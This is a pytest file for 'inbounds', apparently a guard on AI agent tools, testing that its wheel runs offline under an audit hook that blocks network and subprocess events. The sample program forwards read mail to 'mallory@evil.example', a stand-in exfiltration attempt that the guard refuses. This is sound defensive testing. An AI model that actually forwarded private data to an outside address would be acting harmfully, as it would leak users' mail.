"""The wheel by itself: an empty environment, its own requirements, no OPA, no Go, no network.

The network is off twice. Where the kernel lets us, the program runs in a network namespace that
has none (`unshare`); and everywhere an audit hook ends it at once when it resolves a name,
connects, sends, listens or starts another program.
"""

from __future__ import annotations

import importlib.metadata
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from packaging.requirements import Requirement
from tests import documents, scenes, shipping
from tests.guards import SUBJECT, Place

from inbounds.testing import INTENT

CAUGHT = 70
"""The exit code of a program that reached for the network or for another program."""

HOOK = f"""\
import os, sys

def _watch(event, arguments):
    if event == "socket.connect" or event == "socket.bind":
        family = getattr(arguments[0], "family", None)
        if family is not None and family.name == "AF_UNIX":
            return
    elif event not in (
        "socket.getaddrinfo", "socket.gethostbyname", "socket.sendto", "socket.sendmsg",
        "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork",
        "pty.spawn",
    ):
        return
    os.write(2, f"reached for {{event}}\\n".encode())
    os._exit({CAUGHT})

sys.addaudithook(_watch)
"""

PROGRAM = f"""\
import sys
from inbounds import AccessDenied, Guard

guard = Guard()
ran = []

@guard.tool("mail.read", resource=lambda id: ("mail", id))
def read(id: str) -> str:
    ran.append(id)
    return "mail " + id

@guard.tool("mail.send", resource=lambda to, body: ("mailbox", "alice"))
def send(to: list[str], body: str) -> None:
    ran.append(to)

with guard.task({INTENT!r}, subject={SUBJECT!r}) as task:
    text = read("42")
    try:
        send(["mallory@evil.example"], text)
    except AccessDenied as no:
        print(no.code)
print(task.report())
print(ran)

from inbounds.evidence.verify import verify
print(verify(guard.evidence.path, guard.evidence.key).ok)
print(sorted({{"opa", "go"}} & set(sys.modules)))
guard.close()
"""

SAID = """\
egress.destination_not_allowed
in bounds · 1 ran · 1 refused
['42']
True
[]
"""


def _without_network() -> list[str]:
    """What a command is begun with to have no network, or nothing where that is not allowed."""
    unshare = shutil.which("unshare")
    if unshare is None:
        return []
    for options in (["-n"], ["-r", "-n"]):
        tried = subprocess.run([unshare, *options, "true"], capture_output=True, check=False)
        if tried.returncode == 0:
            return [unshare, *options]
    return []


NO_NETWORK = _without_network()


@pytest.fixture(scope="module")
def wheel(tmp_path_factory):
    shipping.make_assets()
    out = tmp_path_factory.mktemp("built")
    build = [sys.executable, "-m", "hatchling", "build", "-t", "wheel", "-d", str(out)]
    subprocess.run(build, cwd=scenes.ROOT, check=True, capture_output=True)
    (packed,) = out.glob("*.whl")
    return packed


def required(name: str, extras: frozenset[str] = frozenset()) -> set[str]:
    """The distributions that one requires with these extras, and they in turn."""
    found: set[str] = set()
    pending = [(name, extras)]
    seen = set()
    while pending:
        current = pending.pop()
        if current in seen:
            continue
        seen.add(current)
        for line in importlib.metadata.requires(current[0]) or []:
            requirement = Requirement(line)
            wanted = current[1] or {""}
            marker = requirement.marker
            if marker is None or any(marker.evaluate({"extra": extra}) for extra in wanted):
                found.add(requirement.name)
                pending.append((requirement.name, frozenset(requirement.extras)))
    return found


def install(wheel: Path, folder: Path, extras: frozenset[str] = frozenset()) -> Path:
    """Install the wheel, and what it requires and no more, into an environment of its own.

    What it requires is copied from the environment of the tests: nothing is fetched.
    """
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(folder)], check=True)
    python = folder / ("Scripts" if os.name == "nt" else "bin") / "python"
    pip = [sys.executable, "-m", "pip", "--python", str(python), "--disable-pip-version-check"]
    options = ["--quiet", "--no-index", "--no-deps"]
    subprocess.run([*pip, "install", *options, str(wheel)], check=True, capture_output=True)
    (site,) = folder.glob("**/site-packages")
    for name in required("inbounds", extras):
        for file in importlib.metadata.distribution(name).files or []:
            target = site / file
            if ".." in file.parts or "__pycache__" in file.parts or target.exists():
                continue
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(file.locate(), target)
    whole = subprocess.run([*pip, "check"], capture_output=True, text=True, check=False)
    assert whole.returncode == 0, whole.stdout
    (site / "sitecustomize.py").write_text(HOOK, "utf-8")
    return python


@pytest.fixture(scope="module")
def python(wheel, tmp_path_factory):
    return install(wheel, tmp_path_factory.mktemp("minimal") / "venv")


@pytest.fixture
def place(tmp_path):
    """A folder with a deployment and an issuer, as `inbounds init` lays them out."""
    place = Place(tmp_path)
    place.home.rename(tmp_path / ".inbounds")
    place.home = tmp_path / ".inbounds"
    (tmp_path / "app.py").write_text(PROGRAM, "utf-8")
    return place


def run(python, *arguments, cwd, prefix=(), **environment):
    """Run with this environment and nothing else in it."""
    return subprocess.run(
        [*prefix, str(python), *arguments],
        cwd=cwd,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def decided(done):
    assert (done.returncode, done.stderr) == (0, ""), done.stderr
    assert done.stdout == SAID


# --- what the belts are worth --------------------------------------------------------------


@pytest.mark.parametrize(
    "reach",
    [
        "import socket; socket.create_connection(('127.0.0.1', 9), 1)",
        "import socket; socket.getaddrinfo('opa.example', 443)",
        "import urllib.request; urllib.request.urlopen('http://127.0.0.1:9')",
        "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'', ('127.1', 9))",
        "import subprocess; subprocess.run(['true'])",
        "import os; os.system('true')",
    ],
)
def test_whoever_reaches_out_is_caught(python, tmp_path, reach):
    done = run(python, "-I", "-c", reach, cwd=tmp_path)
    assert done.returncode == CAUGHT
    assert "reached for" in done.stderr


def test_the_namespace_has_no_network(python, tmp_path):
    if not NO_NETWORK:
        pytest.skip("`unshare` may not take the network away here; the audit hook alone watches")
    reach = "import _socket as s; s.socket(s.AF_INET, s.SOCK_STREAM).connect(('127.0.0.1', 9))"
    # Without the hook: nothing but the kernel says no.
    done = run(python, "-S", "-c", reach, cwd=tmp_path, prefix=NO_NETWORK)
    assert done.returncode == 1
    assert "Network is unreachable" in done.stderr


def test_it_is_the_wheel_and_nothing_of_the_checkout(python, tmp_path):
    listed = "import inbounds, sys; print(inbounds.__file__); print(*sys.path, sep='\\n')"
    done = run(python, "-I", "-c", listed, cwd=tmp_path)
    home, *path = done.stdout.splitlines()
    assert Path(home).is_relative_to(python.parent.parent)
    assert str(scenes.ROOT) not in "\n".join(path)
    absent = "import typer, rich, pytest, opentelemetry.exporter"
    for name in absent.removeprefix("import ").split(", "):
        assert run(python, "-I", "-c", f"import {name}", cwd=tmp_path).returncode == 1


# --- a decision ----------------------------------------------------------------------------


def test_a_decision_without_a_network(python, place, tmp_path):
    """
    An allow, a deny, the report and a whole evidence log: the program of the README.
    """
    decided(run(python, "app.py", cwd=tmp_path, prefix=NO_NETWORK, HOME=str(tmp_path / "me")))


def test_a_decision_in_isolated_mode(python, place, tmp_path):
    decided(run(python, "-I", "app.py", cwd=tmp_path, prefix=NO_NETWORK))


@pytest.mark.parametrize("home", [None, "/proc/none", ""], ids=["absent", "unwritable", "empty"])
def test_a_decision_without_a_home(python, place, tmp_path, home):
    """
    State is where the program is, or where it is told; nobody's home is needed.
    """
    given = {} if home is None else {"HOME": home}
    decided(run(python, "app.py", cwd=tmp_path, prefix=NO_NETWORK, **given))


@pytest.mark.skipif(not Path("/proc/self").exists(), reason="wants a folder nobody can write")
def test_a_decision_from_a_folder_nobody_can_write(python, place, tmp_path):
    told = {"INBOUNDS_HOME": str(place.home), "INBOUNDS_DEPLOYMENT": str(tmp_path / "deployment")}
    program = str(tmp_path / "app.py")
    decided(run(python, program, cwd="/proc", prefix=NO_NETWORK, **told))
    # With nothing told it says what is missing, and where it has looked.
    done = run(python, program, cwd="/proc", prefix=NO_NETWORK, HOME="/proc/none")
    assert done.returncode == 1
    assert "ConfigurationError: there is no development issuer" in done.stderr
    assert "inbounds init" in done.stderr


def test_the_command_says_which_extra_it_needs(python, tmp_path):
    done = run(python.parent / "inbounds", "init", "app.py", cwd=tmp_path)
    assert done.returncode == 2
    assert "inbounds[cli]" in done.stderr
    assert "Traceback" not in done.stderr


# --- the README, with the extra `cli` ------------------------------------------------------


def test_the_readme_from_nothing_to_a_report(wheel, tmp_path, tmp_path_factory):
    """
    `inbounds init` drafts what the README's program needs; all of it without a network.
    """
    extras = frozenset({"cli"})
    python = install(wheel, tmp_path_factory.mktemp("cli") / "venv", extras)
    inbounds = python.parent / "inbounds"
    (program,) = (
        block.text
        for block in documents.blocks(scenes.ROOT / "README.md")
        if (block.word, block.about) == ("file", "app.py")
    )
    (tmp_path / "app.py").write_text(program, "utf-8")
    drafted = run(inbounds, "init", "app.py", cwd=tmp_path, prefix=NO_NETWORK)
    assert drafted.returncode == 0, drafted.stderr

    done = run(python, "app.py", cwd=tmp_path, prefix=NO_NETWORK)
    assert "capability.effects_unset" in done.stderr + done.stdout

    tools = tmp_path / "deployment" / "tools.yaml"
    text = yaml.safe_load(tools.read_text("utf-8"))
    text["mail.read"]["effects"], text["mail.send"]["effects"] = ["read"], ["export"]
    tools.write_text(yaml.safe_dump(text), "utf-8")
    done = run(python, "app.py", cwd=tmp_path, prefix=NO_NETWORK)
    assert done.returncode == 0, done.stderr
    code, report = done.stdout.splitlines()
    assert code.startswith("egress.destination_not_allowed ")
    assert report == "in bounds · 1 ran · 1 refused"
    doctor = run(inbounds, "evidence", "verify", cwd=tmp_path, prefix=NO_NETWORK)
    assert doctor.returncode == 0, doctor.stderr + doctor.stdout
